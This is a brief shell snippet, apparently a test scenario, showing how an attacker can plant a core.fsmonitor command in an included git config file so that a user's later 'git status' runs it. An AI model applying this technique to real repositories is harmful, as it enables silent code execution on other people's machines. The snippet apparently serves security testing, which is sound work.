# The repository's configuration includes a file that the attacker changes later.
attack() {
    evil
    git config -f later core.fsmonitor "$EVIL"
    printf "[include]\n\tpath = %s/later\n" "$PWD" >>.git/config
}
human() {
    git status
}
harmed() {
    executed
}
